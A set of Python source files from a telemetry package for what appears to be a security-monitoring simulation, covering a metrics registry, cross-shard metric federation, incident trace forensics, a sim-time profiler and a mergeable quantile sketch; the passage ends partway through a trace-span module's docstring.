    """Registry of metric families plus scrape-time collectors.

    Family registration is get-or-create: several proxy shards can each
    ask for ``proxy_requests_total`` and share one family (their samples
    diverge by label).  Re-registering a name with a different type or
    label set is an error — silent schema drift is how dashboards rot.
    """

    def __init__(self, *, enabled: bool = True) -> None:
        self.enabled = enabled
        self._families: Dict[str, MetricFamily] = {}
        self._collectors: List[Callable[[], None]] = []

    # -- family registration ------------------------------------------

    def counter(self, name: str, help_text: str = "",
                labels: Sequence[str] = ()):
        return self._family(name, help_text, "counter", labels)

    def gauge(self, name: str, help_text: str = "",
              labels: Sequence[str] = ()):
        return self._family(name, help_text, "gauge", labels)

    def histogram(self, name: str, help_text: str = "",
                  labels: Sequence[str] = (),
                  buckets: Optional[Sequence[float]] = None):
        return self._family(name, help_text, "histogram", labels,
                            buckets=buckets or DEFAULT_BUCKETS)

    def _family(self, name: str, help_text: str, metric_type: str,
                labels: Sequence[str],
                buckets: Optional[Sequence[float]] = None):
        if not self.enabled:
            return NULL_INSTRUMENT
        existing = self._families.get(name)
        if existing is not None:
            if existing.type != metric_type or existing.labelnames != tuple(labels):
                raise ValueError(
                    f"metric {name!r} already registered as {existing.type} "
                    f"with labels {existing.labelnames}")
            return existing
        fam = MetricFamily(name, help_text, metric_type, tuple(labels),
                           buckets=buckets)
        self._families[name] = fam
        return fam

    # -- scrape -------------------------------------------------------

    def register_collector(self, fn: Callable[[], None]) -> None:
        """Register a scrape-time callback that copies live subsystem
        counters into registry instruments.  No-op when disabled."""
        if self.enabled:
            self._collectors.append(fn)

    def collect(self) -> List[MetricSample]:
        """Run collectors, then snapshot every family's samples."""
        if not self.enabled:
            return []
        for fn in self._collectors:
            fn()
        out: List[MetricSample] = []
        for name in sorted(self._families):
            out.extend(self._families[name].samples())
        return out

    def families(self) -> List[MetricFamily]:
        return [self._families[name] for name in sorted(self._families)]

    def get(self, name: str) -> Optional[MetricFamily]:
        return self._families.get(name)
