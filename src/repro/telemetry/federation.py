"""Cross-shard metric federation: delta scrapes into one fleet registry.

A sharded world (and the roadmap's future multi-process fleet) has one
:class:`~repro.telemetry.registry.MetricsRegistry` per shard/process.
The :class:`FederatedScraper` is the aggregation plane: it scrapes each
shard registry, computes the *delta* since that shard's previous scrape
(cursors keyed per ``(shard, family, labelset)``), rewrites labels with
``shard=<name>``, and folds the deltas into a single fleet registry —
counters add, gauges take the latest value, histograms add their exact
fixed-bucket counters *and* merge their quantile sketches (exact under
re-bucketing, see :mod:`repro.telemetry.sketch`).

Delta scraping rather than snapshot-overwrite is what makes the scraper
restartable and double-scrape safe: scraping twice with no traffic in
between adds zero, and a shard restart (counter going backwards) is
treated as a fresh epoch, not a negative delta.

Cardinality is a hard budget, and evictions are counted, never silent:
once the fleet registry holds ``max_series`` labeled children, scrapes
that would mint a *new* series drop it and increment
``federation_dropped_series_total`` (the scraper's own meta-families are
exempt — the budget alarm must not be silenced by the budget).

For worlds where the shards share one in-process registry (today's
sharded hub), :func:`shard_views` splits a registry by a label (e.g.
``proxy``) into per-shard scrape views, so the federation path is
exercised on real run data before the multi-process split lands.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence, Tuple

from repro.telemetry.registry import (
    Counter,
    Gauge,
    Histogram,
    MetricFamily,
    MetricsRegistry,
)

__all__ = ["FederatedScraper", "shard_views"]


class _HistogramCursor:
    """Last-seen state of one shard histogram, for delta computation."""

    __slots__ = ("counts", "sum", "count", "sketch_buckets", "zero_count")

    def __init__(self, child: Histogram) -> None:
        self.counts = list(child.counts)
        self.sum = child.sum
        self.count = child.count
        self.sketch_buckets = child.sketch.bucket_state()
        self.zero_count = child.sketch.zero_count


class FederatedScraper:
    """Merges per-shard registry deltas into one fleet registry."""

    def __init__(self, *, max_series: int = 512) -> None:
        if max_series < 1:
            raise ValueError(f"max_series must be >= 1, got {max_series}")
        self.fleet = MetricsRegistry(enabled=True)
        self.max_series = max_series
        self.scrapes = 0
        self.series = 0
        self.dropped_series = 0
        self.merged_samples = 0
        self._cursors: Dict[Tuple[str, str, Tuple[str, ...]], object] = {}
        # Meta-families: the budget alarm itself, exempt from the budget.
        self._meta_dropped = self.fleet.counter(
            "federation_dropped_series_total",
            "Series rejected by the fleet cardinality budget.")
        self._meta_series = self.fleet.gauge(
            "federation_series", "Labeled series held by the fleet registry.")
        self._meta_scrapes = self.fleet.counter(
            "federation_scrapes_total", "Per-shard scrapes performed.")
        self._meta_names = {"federation_dropped_series_total",
                            "federation_series", "federation_scrapes_total"}

    # -- scraping -----------------------------------------------------

    def scrape(self, shard: str, registry) -> int:
        """Scrape one shard registry: fold everything new since the last
        scrape of ``shard`` into the fleet registry under ``shard=``.
        Returns the number of series merged (not dropped)."""
        registry.collect()  # run the shard's scrape-time collectors
        merged = 0
        for family in registry.families():
            if family.name in self._meta_names:
                continue  # never re-federate the aggregation plane
            fleet_fam = self._fleet_family(family)
            for values, child in sorted(family._children.items()):
                fleet_values = values + (shard,)
                target = fleet_fam._children.get(fleet_values)
                if target is None:
                    if self.series >= self.max_series:
                        self.dropped_series += 1
                        self._meta_dropped.inc()
                        continue
                    target = fleet_fam._children[fleet_values] = fleet_fam._make()
                    self.series += 1
                self._merge_child(shard, family.name, values, child, target)
                merged += 1
        self.scrapes += 1
        self._meta_scrapes.inc()
        self._meta_series.set(float(self.series))
        self.merged_samples += merged
        return merged

    def scrape_all(self, shards: Dict[str, object]) -> int:
        """Scrape every ``name -> registry`` pair, in name order."""
        return sum(self.scrape(name, shards[name]) for name in sorted(shards))

    def _fleet_family(self, family: MetricFamily) -> MetricFamily:
        labels = family.labelnames + ("shard",)
        if family.type == "counter":
            return self.fleet.counter(family.name, family.help, labels)
        if family.type == "gauge":
            return self.fleet.gauge(family.name, family.help, labels)
        return self.fleet.histogram(family.name, family.help, labels,
                                    buckets=family.buckets)

    def _merge_child(self, shard: str, name: str, values: Tuple[str, ...],
                     child, target) -> None:
        key = (shard, name, values)
        if isinstance(child, Counter):
            prev = self._cursors.get(key, 0.0)
            cur = child.value
            # A counter going backwards means the shard restarted; its
            # whole current value is new evidence, not a negative delta.
            delta = cur - prev if cur >= prev else cur
            if delta:
                target.inc(delta)
            self._cursors[key] = cur
        elif isinstance(child, Gauge):
            target.set(child.value)
        elif isinstance(child, Histogram):
            cursor = self._cursors.get(key)
            self._merge_histogram(child, target, cursor)
            self._cursors[key] = _HistogramCursor(child)

    @staticmethod
    def _merge_histogram(child: Histogram, target: Histogram,
                         cursor: Optional[_HistogramCursor]) -> None:
        if cursor is None:
            target.merge_from(child)
            return
        if child.count < cursor.count:  # shard restart: fresh epoch
            target.merge_from(child)
            return
        for i, n in enumerate(child.counts):
            target.counts[i] += n - cursor.counts[i]
        target.sum += child.sum - cursor.sum
        target.count += child.count - cursor.count
        buckets = child.sketch.bucket_state()
        delta = {i: n - cursor.sketch_buckets.get(i, 0)
                 for i, n in buckets.items()
                 if n - cursor.sketch_buckets.get(i, 0) > 0}
        target.sketch.merge_delta(
            delta, child.sketch.zero_count - cursor.zero_count,
            child.count - cursor.count, child.sum - cursor.sum,
            child.sketch.min, child.sketch.max)

    # -- fleet queries ------------------------------------------------

    def fleet_quantiles(self, family_name: str,
                        qs: Sequence[float] = (0.5, 0.99)) -> Dict[str, float]:
        """Fleet-wide quantiles for a histogram family: every shard's
        sketch merged (exactly), then read at each ``q``."""
        family = self.fleet.get(family_name)
        if family is None or family.type != "histogram":
            raise KeyError(f"no federated histogram family {family_name!r}")
        merged = None
        for child in family._children.values():
            if merged is None:
                merged = child.sketch.copy()
            else:
                merged.merge(child.sketch)
        if merged is None or merged.count == 0:
            return {f"p{q * 100:g}": 0.0 for q in qs}
        return {f"p{q * 100:g}": merged.quantile(q) for q in qs}

    def shard_quantile(self, family_name: str, q: float) -> Dict[str, float]:
        """Per-shard quantiles for a histogram family (shard label ->
        quantile over that shard's merged series)."""
        family = self.fleet.get(family_name)
        if family is None or family.type != "histogram":
            raise KeyError(f"no federated histogram family {family_name!r}")
        per_shard: Dict[str, object] = {}
        for values, child in family._children.items():
            shard = values[-1]
            sk = per_shard.get(shard)
            if sk is None:
                per_shard[shard] = child.sketch.copy()
            else:
                sk.merge(child.sketch)
        return {shard: sk.quantile(q)
                for shard, sk in sorted(per_shard.items())}

    def summary(self) -> Dict[str, float]:
        return {
            "scrapes": self.scrapes,
            "series": self.series,
            "max_series": self.max_series,
            "dropped_series": self.dropped_series,
            "merged_samples": self.merged_samples,
        }


# -- splitting a shared registry into per-shard views ------------------


class _FamilyView:
    """A read-only slice of one family: children matching a label value,
    with that label removed from the schema (the scraper re-adds it as
    ``shard=``).  Duck-types the parts of MetricFamily a scrape uses."""

    __slots__ = ("name", "help", "type", "labelnames", "buckets", "_children")

    def __init__(self, family: MetricFamily, drop_at: int,
                 value: str) -> None:
        self.name = family.name
        self.help = family.help
        self.type = family.type
        self.labelnames = (family.labelnames[:drop_at]
                           + family.labelnames[drop_at + 1:])
        self.buckets = family.buckets
        self._children = {
            values[:drop_at] + values[drop_at + 1:]: child
            for values, child in family._children.items()
            if values[drop_at] == value
        }


class _ShardView:
    """One shard's scrape view over a shared in-process registry."""

    __slots__ = ("_registry", "_label", "_value")

    def __init__(self, registry: MetricsRegistry, label: str,
                 value: str) -> None:
        self._registry = registry
        self._label = label
        self._value = value

    def collect(self) -> None:
        self._registry.collect()

    def families(self) -> List[_FamilyView]:
        out: List[_FamilyView] = []
        for family in self._registry.families():
            if self._label not in family.labelnames:
                continue
            drop_at = family.labelnames.index(self._label)
            view = _FamilyView(family, drop_at, self._value)
            if view._children:
                out.append(view)
        return out


def shard_views(registry: MetricsRegistry,
                label: str = "proxy") -> Dict[str, _ShardView]:
    """Split a shared registry into per-shard scrape views keyed by the
    values of ``label``.  Families without that label are shared state,
    not per-shard state, and are excluded (federating them once per
    shard would multiply their deltas)."""
    registry.collect()
    values: List[str] = []
    for family in registry.families():
        if label not in family.labelnames:
            continue
        at = family.labelnames.index(label)
        for child_values in family._children:
            if child_values[at] not in values:
                values.append(child_values[at])
    return {v: _ShardView(registry, label, v) for v in sorted(values)}
