"""Incident forensics: reconstruct the why-was-this-blocked chain.

Given an incident that carries a span id (stamped by the SOC
correlator), walk the trace store back to the proxied request that
started the chain and forward to every containment action the incident
triggered.  This is what ``repro obs --incident <id>`` prints.

Span names are the contract between the instrumented subsystems and
this module:

- ``proxy.request``  — the front-door request (root)
- ``detector.hit``   — a monitor notice, parented to the request whose
  ``X-Request-Id`` the backend leg carried
- ``incident``       — the correlator's fold, parented to the first
  notice
- ``soc.action``     — playbook-driven containment, parented to the
  incident (survives un-containment: re-containment actions parent to
  the same incident span)
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence

from repro.telemetry.trace import Span, Tracer

__all__ = ["incident_chain", "chain_stages", "describe_chain", "STAGE_NAMES"]

#: Span-name → human stage label, in causal order.
STAGE_NAMES = (
    ("proxy.request", "request"),
    ("detector.hit", "detector"),
    ("incident", "incident"),
    ("soc.action", "action"),
)
_STAGE_BY_SPAN = dict(STAGE_NAMES)


def incident_chain(tracer: Tracer, incident_span_id: str) -> List[Span]:
    """The full causal chain of one incident, root-first: the ancestor
    walk (request → detector → incident) plus every action span parented
    to the incident, in firing order."""
    chain = tracer.chain(incident_span_id)
    if not chain:
        return []
    actions = sorted(tracer.children(incident_span_id),
                     key=lambda s: (s.start, s.span_id))
    return chain + actions


def chain_stages(spans: Sequence[Span]) -> List[str]:
    """Which causal stages the chain covers, in order."""
    present = {s.name for s in spans}
    return [label for name, label in STAGE_NAMES if name in present]


def describe_chain(spans: Sequence[Span]) -> List[str]:
    """Render a chain as indented, timestamped lines."""
    lines: List[str] = []
    depth: Dict[str, int] = {}
    for span in spans:
        d = depth.get(span.parent_id, -1) + 1 if span.parent_id else 0
        depth[span.span_id] = d
        stage = _STAGE_BY_SPAN.get(span.name, span.name)
        attrs = " ".join(f"{k}={_short(v)}" for k, v in sorted(span.attrs.items()))
        lines.append(f"{span.start:9.2f}s  {'  ' * d}{stage:<9s} "
                     f"[{span.span_id}] {attrs}".rstrip())
    return lines


def _short(value: object, limit: int = 60) -> str:
    text = str(value)
    return text if len(text) <= limit else text[: limit - 3] + "..."


def find_incident_span(tracer: Tracer, incident_id: str) -> Optional[Span]:
    """Locate an incident span by its ``INC-%04d`` id attribute."""
    for span in tracer.spans():
        if span.name == "incident" and span.attrs.get("incident_id") == incident_id:
            return span
    return None
