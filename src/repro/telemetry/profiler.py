"""Deterministic sim-time profiler with collapsed-stack flamegraph export.

"Where does time go inside the wire fast path" has two honest answers
in a discrete-event simulation, and this profiler keeps them separate:

- **Sim-clock self-time** — derived from the :class:`Tracer` spans the
  world already records.  Each finished span's duration minus the
  duration of its children is its self-time; the parent chain is the
  stack.  These frames (``sim;...``) show where *simulated* time goes:
  link latency, shaping delay, containment lead.  CPU-bound work inside
  one event advances the sim clock by zero, so sim frames deliberately
  say nothing about decode cost.
- **Work units** — cheap counting hooks at batch granularity in the
  real hot paths (WS/ZMTP batch drains, signature scans, proxy
  responds) record how many *bytes or calls* each function consumed.
  These frames (``hot;...``) are the decode-cost profile: deterministic
  for a fixed seed, because they count work, not wall time.

Both weight modes are byte-reproducible run-to-run under a fixed seed.
Wall-clock is the third weight: hooks may carry a sampled
``perf_counter`` delta (one full measurement every
``wall_sample_interval`` calls, scaled back up).  Wall frames are
real-machine dependent and therefore *not* part of the deterministic
export — ``repro obs --flame`` prints units by default and callers must
ask for ``wall`` explicitly.

The profiler never draws randomness and never touches the id streams:
enabling it cannot perturb the world (asserted in tests).
"""

from __future__ import annotations

import time
from typing import Dict, List, Tuple

__all__ = ["Profiler", "NULL_PROFILER"]

Path = Tuple[str, ...]

#: One full wall-clock measurement per this many hook calls; the rest
#: cost two attribute reads and an integer increment.
WALL_SAMPLE_INTERVAL = 64


class _Frame:
    __slots__ = ("calls", "units", "sim", "wall")

    def __init__(self) -> None:
        self.calls = 0
        self.units = 0
        self.sim = 0.0
        self.wall = 0.0


class Profiler:
    """Frame store for hook- and span-derived profiles."""

    __slots__ = ("enabled", "wall_sample_interval", "_frames", "_hook_calls")

    def __init__(self, *, enabled: bool = True,
                 wall_sample_interval: int = WALL_SAMPLE_INTERVAL) -> None:
        self.enabled = enabled
        self.wall_sample_interval = max(1, wall_sample_interval)
        self._frames: Dict[Path, _Frame] = {}
        self._hook_calls = 0

    # -- hot-path hooks -----------------------------------------------

    def account(self, path: Path, units: int = 1, *,
                sim: float = 0.0, wall_t0: float = 0.0) -> None:
        """Record ``units`` of work under ``path``.  ``wall_t0`` is a
        non-zero ``perf_counter()`` start only on sampled calls (see
        :meth:`wall_probe`); the measured delta is scaled back up by the
        sample interval to estimate total wall time."""
        frame = self._frames.get(path)
        if frame is None:
            frame = self._frames[path] = _Frame()
        frame.calls += 1
        frame.units += units
        frame.sim += sim
        if wall_t0:
            frame.wall += ((time.perf_counter() - wall_t0)
                           * self.wall_sample_interval)

    def wall_probe(self) -> float:
        """``perf_counter()`` every Nth call, else 0.0 — callers pass
        the result straight to :meth:`account` as ``wall_t0``."""
        self._hook_calls += 1
        if self._hook_calls % self.wall_sample_interval == 0:
            return time.perf_counter()
        return 0.0

    # -- span-derived sim-time frames ---------------------------------

    def ingest_spans(self, tracer) -> int:
        """Fold every finished span into ``sim;...`` frames: self-time =
        span duration minus the summed duration of its retained
        children, stacked along the parent chain.  Returns the number of
        spans folded.  Idempotent per call — callers ingest once at
        export time, not incrementally."""
        spans = tracer.spans()
        child_time: Dict[str, float] = {}
        for span in spans:
            if span.end is None or not span.parent_id:
                continue
            child_time[span.parent_id] = (
                child_time.get(span.parent_id, 0.0)
                + (span.end - span.start))
        folded = 0
        for span in spans:
            if span.end is None:
                continue
            self_time = (span.end - span.start) - child_time.get(span.span_id, 0.0)
            if self_time < 0.0:
                self_time = 0.0  # children outlived an early-finished parent
            path = ("sim",) + tuple(s.name for s in tracer.chain(span.span_id))
            frame = self._frames.get(path)
            if frame is None:
                frame = self._frames[path] = _Frame()
            frame.calls += 1
            frame.sim += self_time
            folded += 1
        return folded

    # -- export -------------------------------------------------------

    def _weight(self, frame: _Frame, mode: str) -> int:
        if mode == "units":
            return frame.units
        if mode == "sim":
            return int(round(frame.sim * 1e6))  # integer microseconds
        if mode == "wall":
            return int(round(frame.wall * 1e9))  # integer nanoseconds
        raise ValueError(f"unknown flamegraph weight {mode!r} "
                         f"(expected units, sim, or wall)")

    def collapsed(self, weight: str = "units") -> str:
        """Collapsed-stack flamegraph text: one ``a;b;c N`` line per
        frame with non-zero weight, sorted by path (deterministic for
        ``units`` and ``sim`` under a fixed seed)."""
        lines: List[str] = []
        for path in sorted(self._frames):
            w = self._weight(self._frames[path], weight)
            if w > 0:
                lines.append(f"{';'.join(path)} {w}")
        return "\n".join(lines) + ("\n" if lines else "")

    def top_self(self, weight: str = "units",
                 n: int = 5) -> List[Tuple[str, int]]:
        """The ``n`` heaviest frames by self-weight: (leaf name, weight),
        heaviest first; path order breaks ties deterministically."""
        rows = [(self._weight(frame, weight), path)
                for path, frame in self._frames.items()]
        rows = [(w, path) for w, path in rows if w > 0]
        rows.sort(key=lambda r: (-r[0], r[1]))
        return [(path[-1], w) for w, path in rows[:n]]

    def frames(self) -> int:
        return len(self._frames)

    def summary(self) -> Dict[str, float]:
        return {
            "frames": len(self._frames),
            "hook_calls": self._hook_calls,
            "units": sum(f.units for f in self._frames.values()),
            "sim_seconds": round(sum(f.sim for f in self._frames.values()), 9),
        }


class _NullProfiler:
    """Disabled stand-in; hooks never see it (they keep a ``None``
    check), but world plumbing can pass it around safely."""

    __slots__ = ()
    enabled = False

    def account(self, path: Path, units: int = 1, *, sim: float = 0.0,
                wall_t0: float = 0.0) -> None:
        pass

    def wall_probe(self) -> float:
        return 0.0

    def ingest_spans(self, tracer) -> int:
        return 0

    def collapsed(self, weight: str = "units") -> str:
        return ""

    def top_self(self, weight: str = "units", n: int = 5) -> list:
        return []

    def frames(self) -> int:
        return 0

    def summary(self) -> Dict[str, float]:
        return {"frames": 0, "hook_calls": 0, "units": 0, "sim_seconds": 0.0}


NULL_PROFILER = _NullProfiler()
