"""Unified telemetry: metrics registry, trace spans, event timeline.

One :class:`Telemetry` instance is created per ``WorldBuilder.build``
and threaded through every subsystem of that world — hub proxy shards,
spawner/culler, wire decoders, monitor engines, SOC controller, and the
adversary runner all share it.  It bundles the three planes:

- :attr:`Telemetry.registry` — labeled counters/gauges/histograms,
  populated mostly by scrape-time collectors over the existing
  ``ProxyStats`` / ``MonitorHealth`` / SOC counters;
- :attr:`Telemetry.tracer` — causal spans from proxied request through
  decode, detector hit, incident, and containment action;
- :attr:`Telemetry.timeline` — a bounded ring of narrative events.

``Telemetry.disabled()`` is the null object every component defaults
to: a single instance whose registry hands out no-op instruments, whose
tracer returns the null span, and whose timeline drops records at an
``if not enabled`` — so un-instrumented worlds pay nothing.
"""

from __future__ import annotations

from typing import Optional

from repro.telemetry.federation import FederatedScraper, shard_views
from repro.telemetry.profiler import NULL_PROFILER, Profiler
from repro.telemetry.registry import (
    DEFAULT_BUCKETS, Counter, Gauge, Histogram, MetricSample,
    MetricsRegistry, NULL_INSTRUMENT)
from repro.telemetry.sketch import DEFAULT_ALPHA, QuantileSketch
from repro.telemetry.slo import (
    DEFAULT_SLOS, SHAPING_DELAY_SLO, SloEvaluator, SloSpec, burn_rate)
from repro.telemetry.timeline import EventTimeline, TimelineEvent, merge_timelines
from repro.telemetry.trace import NULL_SPAN, Span, TraceContext, Tracer
from repro.util.ids import IdSequence

__all__ = [
    "Telemetry",
    "MetricsRegistry",
    "MetricSample",
    "Counter",
    "Gauge",
    "Histogram",
    "QuantileSketch",
    "FederatedScraper",
    "shard_views",
    "Profiler",
    "SloSpec",
    "SloEvaluator",
    "burn_rate",
    "DEFAULT_SLOS",
    "SHAPING_DELAY_SLO",
    "Tracer",
    "TraceContext",
    "Span",
    "EventTimeline",
    "TimelineEvent",
    "merge_timelines",
    "DecoderCounters",
    "NULL_INSTRUMENT",
    "NULL_PROFILER",
    "NULL_SPAN",
    "DEFAULT_ALPHA",
    "DEFAULT_BUCKETS",
]


class DecoderCounters:
    """Per-layer wire counters a decoder can call once per drained batch.

    The decoders take this as an optional constructor argument defaulting
    to ``None`` and guard the call with ``is not None`` — with telemetry
    off the wire hot loop carries exactly one pointer comparison, i.e.
    the counters compile down to no-ops.
    """

    __slots__ = ("_messages", "_bytes")

    def __init__(self, registry: MetricsRegistry, layer: str, monitor: str) -> None:
        fam_msgs = registry.counter(
            "wire_messages_total",
            "Messages drained from wire decoders", labels=("layer", "monitor"))
        fam_bytes = registry.counter(
            "wire_bytes_total",
            "Bytes consumed by wire decoders", labels=("layer", "monitor"))
        self._messages = fam_msgs.labels(layer=layer, monitor=monitor)
        self._bytes = fam_bytes.labels(layer=layer, monitor=monitor)

    def on_drain(self, n_messages: int, n_bytes: int) -> None:
        self._messages.inc(n_messages)
        self._bytes.inc(n_bytes)


class Telemetry:
    """The shared measurement plane of one built world."""

    def __init__(self, *, enabled: bool = True,
                 span_capacity: int = 8192,
                 timeline_capacity: int = 4096,
                 profile: bool = False) -> None:
        self.enabled = enabled
        self.registry = MetricsRegistry(enabled=enabled)
        self.tracer = Tracer(enabled=enabled, capacity=span_capacity)
        self.timeline = EventTimeline(enabled=enabled,
                                      capacity=timeline_capacity)
        #: The sim-time/work-unit profiler, or ``None`` unless profiling
        #: was asked for — hot paths keep an ``is not None`` guard, so a
        #: world that isn't being profiled pays one pointer test.
        self.profiler: Optional[Profiler] = (
            Profiler() if enabled and profile else None)
        #: Request ids the proxy stamps into ``X-Request-Id``.  A private
        #: sequence so tracing never perturbs the ``util.ids`` stream
        #: that names kernels and messages.
        self.request_ids = IdSequence("R")

    _disabled_singleton: Optional["Telemetry"] = None

    @classmethod
    def disabled(cls) -> "Telemetry":
        """The shared null telemetry every component defaults to."""
        if cls._disabled_singleton is None:
            cls._disabled_singleton = cls(enabled=False)
        return cls._disabled_singleton

    def decoder_counters(self, layer: str, monitor: str) -> Optional[DecoderCounters]:
        """Counters for a wire decoder, or ``None`` when disabled (the
        decoder then skips telemetry with one ``is None`` test)."""
        if not self.enabled:
            return None
        return DecoderCounters(self.registry, layer, monitor)

    def summary(self) -> dict:
        return {
            "enabled": self.enabled,
            "metric_families": len(self.registry.families()),
            "spans": len(self.tracer.spans()),
            "spans_dropped": self.tracer.dropped,
            "timeline_events": len(self.timeline),
            "timeline_dropped": self.timeline.dropped,
            "profiler_frames": (self.profiler.frames()
                                if self.profiler is not None else 0),
        }
