"""Mergeable quantile sketch: log-spaced buckets, bounded relative error.

Fixed-bucket histograms (PR 6) answer "how many requests were faster
than 25 ms" exactly, but they cannot answer "what was p99" better than
the bucket grid, and two shards' histograms only merge if they chose
identical grids up front.  A :class:`QuantileSketch` is the DDSketch
construction: values land in geometrically spaced buckets
``index = ceil(log_gamma(v))`` with ``gamma = (1 + alpha)/(1 - alpha)``,
which guarantees every quantile estimate is within relative error
``alpha`` of a true sample value.

The property that makes it *fleet-grade* is merge exactness: two
sketches built with the same ``alpha`` have the same bucket grid, so
:meth:`merge` is pure per-bucket addition — a merge of N per-shard
sketches is bucket-for-bucket identical to one sketch fed the union
stream, in any merge order.  (The only exception is the memory guard:
if a sketch had to *collapse* low buckets to stay inside
``max_buckets``, exactness degrades at the collapsed tail and the
sketch says so via :attr:`collapsed` — never silently.)

Zero and sub-``MIN_TRACKABLE`` values get a dedicated zero bucket
(latencies of 0.0 are common: local answers, same-tick sends).
Negative values are a programming error for the latency/size families
this backs and raise.
"""

from __future__ import annotations

import math
from typing import Dict, Iterable, List, Optional, Tuple

__all__ = ["QuantileSketch", "DEFAULT_ALPHA", "MIN_TRACKABLE"]

#: Default relative-error bound: quantile estimates within 1%.
DEFAULT_ALPHA = 0.01

#: Values below this are indistinguishable from zero (log-bucket index
#: would underflow); they count in the zero bucket.
MIN_TRACKABLE = 1e-9


class QuantileSketch:
    """Log-bucketed quantile sketch with exact same-``alpha`` merges."""

    __slots__ = ("alpha", "gamma", "_log_gamma", "max_buckets",
                 "zero_count", "count", "sum", "min", "max",
                 "collapsed", "_buckets")

    def __init__(self, *, alpha: float = DEFAULT_ALPHA,
                 max_buckets: int = 2048) -> None:
        if not (0.0 < alpha < 1.0):
            raise ValueError(f"alpha must be in (0, 1), got {alpha}")
        if max_buckets < 8:
            raise ValueError(f"max_buckets must be >= 8, got {max_buckets}")
        self.alpha = alpha
        self.gamma = (1.0 + alpha) / (1.0 - alpha)
        self._log_gamma = math.log(self.gamma)
        self.max_buckets = max_buckets
        self.zero_count = 0
        self.count = 0
        self.sum = 0.0
        self.min = math.inf
        self.max = -math.inf
        #: How many low buckets were folded away to honor ``max_buckets``.
        self.collapsed = 0
        self._buckets: Dict[int, int] = {}

    # -- ingest -------------------------------------------------------

    def _index(self, value: float) -> int:
        return math.ceil(math.log(value) / self._log_gamma)

    def add(self, value: float, count: int = 1) -> None:
        if value < 0.0:
            raise ValueError(f"QuantileSketch is non-negative, got {value}")
        if count <= 0:
            return
        self.count += count
        self.sum += value * count
        if value < self.min:
            self.min = value
        if value > self.max:
            self.max = value
        if value < MIN_TRACKABLE:
            self.zero_count += count
            return
        idx = self._index(value)
        self._buckets[idx] = self._buckets.get(idx, 0) + count
        if len(self._buckets) > self.max_buckets:
            self._collapse()

    def observe(self, value: float) -> None:
        """Histogram-compatible alias for :meth:`add`."""
        self.add(value)

    def _collapse(self) -> None:
        """Fold the lowest buckets together until the budget holds.

        Collapsing *low* buckets sacrifices accuracy where relative
        error matters least for tail quantiles (p50/p9x read from the
        top of the distribution).  Every fold is counted."""
        keys = sorted(self._buckets)
        while len(self._buckets) > self.max_buckets:
            lowest, second = keys[0], keys[1]
            self._buckets[second] += self._buckets.pop(lowest)
            keys.pop(0)
            self.collapsed += 1

    # -- query --------------------------------------------------------

    def quantile(self, q: float) -> float:
        """The value at quantile ``q`` (0..1), within relative error
        ``alpha`` of a true sample (exact for the zero bucket)."""
        if not (0.0 <= q <= 1.0):
            raise ValueError(f"quantile must be in [0, 1], got {q}")
        if self.count == 0:
            return 0.0
        # Rank of the target sample, 1-based; q=0 -> min, q=1 -> max.
        rank = max(1, math.ceil(q * self.count))
        if rank <= self.zero_count:
            return 0.0
        running = self.zero_count
        for idx in sorted(self._buckets):
            running += self._buckets[idx]
            if running >= rank:
                # Midpoint of (gamma^(i-1), gamma^i] in relative terms.
                return 2.0 * self.gamma ** idx / (self.gamma + 1.0)
        return self.max  # pragma: no cover - rank <= count always lands

    def quantiles(self, qs: Iterable[float]) -> List[float]:
        return [self.quantile(q) for q in qs]

    # -- merge --------------------------------------------------------

    def merge(self, other: "QuantileSketch") -> None:
        """Fold ``other`` into self.  Exact under re-bucketing: same
        ``alpha`` means same grid, so this is per-bucket addition and
        the result is bucket-identical to a single sketch over the
        union stream (unless either side had collapsed)."""
        if other.alpha != self.alpha:
            raise ValueError(
                f"cannot merge sketches with different alpha "
                f"({self.alpha} vs {other.alpha}): bucket grids differ")
        self.count += other.count
        self.sum += other.sum
        self.zero_count += other.zero_count
        self.collapsed += other.collapsed
        if other.min < self.min:
            self.min = other.min
        if other.max > self.max:
            self.max = other.max
        for idx, n in other._buckets.items():
            self._buckets[idx] = self._buckets.get(idx, 0) + n
        if len(self._buckets) > self.max_buckets:
            self._collapse()

    def copy(self) -> "QuantileSketch":
        out = QuantileSketch(alpha=self.alpha, max_buckets=self.max_buckets)
        out.merge(self)
        return out

    # -- snapshots (federation deltas) --------------------------------

    def bucket_state(self) -> Dict[int, int]:
        """A snapshot of the bucket counts, for delta scraping."""
        return dict(self._buckets)

    def state(self) -> Tuple[Dict[int, int], int, int, float]:
        return dict(self._buckets), self.zero_count, self.count, self.sum

    def merge_delta(self, buckets: Dict[int, int], zero_count: int,
                    count: int, total: float,
                    min_v: float = math.inf, max_v: float = -math.inf) -> None:
        """Fold a raw bucket delta (from :class:`FederatedScraper`)."""
        self.count += count
        self.sum += total
        self.zero_count += zero_count
        if min_v < self.min:
            self.min = min_v
        if max_v > self.max:
            self.max = max_v
        for idx, n in buckets.items():
            if n > 0:
                self._buckets[idx] = self._buckets.get(idx, 0) + n
        if len(self._buckets) > self.max_buckets:
            self._collapse()

    # -- introspection ------------------------------------------------

    def bucket_count(self) -> int:
        return len(self._buckets)

    def summary(self) -> Dict[str, float]:
        return {
            "alpha": self.alpha,
            "count": self.count,
            "sum": round(self.sum, 9),
            "zero_count": self.zero_count,
            "buckets": len(self._buckets),
            "collapsed": self.collapsed,
            "p50": self.quantile(0.50),
            "p99": self.quantile(0.99),
        }

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, QuantileSketch):
            return NotImplemented
        return (self.alpha == other.alpha
                and self.zero_count == other.zero_count
                and self.count == other.count
                and self._buckets == other._buckets)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (f"QuantileSketch(alpha={self.alpha}, count={self.count}, "
                f"buckets={len(self._buckets)}, collapsed={self.collapsed})")
