"""Causal trace spans: request → decode → detector → incident → action.

A :class:`TraceContext` is the pair ``(trace_id, span_id)`` that travels
with a unit of work.  The proxy opens a root span per proxied request
and *binds* it to the request id it injects as ``X-Request-Id``; the
monitor resolves that binding when the backend leg crosses a tap, so a
detector hit deep inside a WS/ZMTP stream can parent its span to the
exact front-door request that carried the payload.  The SOC parents
incident spans to the first correlated notice and action spans to their
incident, which is what lets ``repro obs --incident`` answer
"why was this source blocked" with a complete chain.

Span ids come from a private :class:`~repro.util.ids.IdSequence`, not
the module-level ``new_id`` stream — tracing must not perturb the
deterministic ids handed to kernels and messages, or enabling telemetry
would change the simulated traffic itself.

The span store is a bounded ring (an ``OrderedDict`` evicting oldest):
